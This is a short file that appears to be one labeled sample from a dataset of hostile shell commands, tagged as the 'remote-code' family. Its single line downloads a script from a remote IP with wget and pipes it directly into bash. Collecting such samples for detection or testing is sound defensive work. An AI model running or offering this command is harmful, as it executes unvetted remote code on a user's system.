# description: Streams a script from wget to bash.
# family: remote-code
wget -qO- http://203.0.113.10/fix.sh | bash
